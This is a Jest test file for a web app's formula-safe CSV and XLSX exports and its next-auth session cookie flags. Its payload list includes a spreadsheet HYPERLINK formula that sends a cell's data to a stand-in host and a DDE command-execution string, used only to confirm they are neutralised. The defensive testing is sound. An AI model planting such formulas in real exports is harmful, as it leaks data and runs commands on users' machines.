// Output-side defences that need no server: formula-safe exports and the
// session cookie flags next-auth sets (docs/security.md).
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { neutralizeFormula, toCsv, toXlsx, type ExportSheet } from "@/lib/export/table-export";

const PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"];

describe("formula injection in exports", () => {
  const sheet = { name: "Chi bộ", columns: [{ header: "Tên", value: (row: { name: string }) => row.name }], rows: PAYLOADS.map((name) => ({ name })) };

  it("CSV: every cell that a spreadsheet would run starts with an apostrophe", () => {
    const records = parse(toCsv(sheet).replace(/^\uFEFF/, ""), { relax_column_count: true, delimiter: ";" }) as string[][];
    expect(records.slice(1).map((record) => record[0])).toEqual(PAYLOADS.map((payload) => `'${payload}`));
    expect(neutralizeFormula("Chi bộ số 1")).toBe("Chi bộ số 1");
    expect(neutralizeFormula("12")).toBe("12");
  });

  it("XLSX: the same texts are plain string cells, never formulas", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx([sheet as ExportSheet<unknown>])) as unknown as ArrayBuffer);
    const cells = workbook.worksheets[0].getColumn(1).values.slice(2);
    expect(cells).toEqual(PAYLOADS.map((payload) => payload.replace(/\r/g, "\n")));
    workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => expect(cell.type).toBe(ExcelJS.ValueType.String)));
  });
});

describe("session cookie flags", () => {
  // next-auth 4 picks its cookies from NEXTAUTH_URL: https → __Secure- prefix and Secure.
  // lib/auth/options.ts does not override them (checked below), so these are the flags in production.
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { defaultCookies } = require(`${process.cwd()}/node_modules/next-auth/core/lib/cookie.js`) as { defaultCookies: (secure: boolean) => Record<string, { name: string; options: Record<string, unknown> }> };

  it("over https: __Secure- prefix, Secure, HttpOnly, SameSite=Lax", () => {
    expect(defaultCookies(true).sessionToken).toEqual({ name: "__Secure-next-auth.session-token", options: { httpOnly: true, sameSite: "lax", path: "/", secure: true } });
    expect(defaultCookies(true).csrfToken.name).toBe("__Host-next-auth.csrf-token");
  });

  it("over plain http (development, tests): HttpOnly and SameSite=Lax, not Secure", () => {
    expect(defaultCookies(false).sessionToken.options).toEqual({ httpOnly: true, sameSite: "lax", path: "/", secure: false });
  });

  it("the app keeps next-auth's cookie defaults and the proxy knows both names", () => {
    const fs = jest.requireActual<typeof import("node:fs")>("node:fs");
    expect(fs.readFileSync("lib/auth/options.ts", "utf8")).not.toMatch(/cookies\s*:|useSecureCookies/);
    expect(fs.readFileSync("proxy.ts", "utf8")).toContain("__Secure-next-auth.session-token");
  });
});
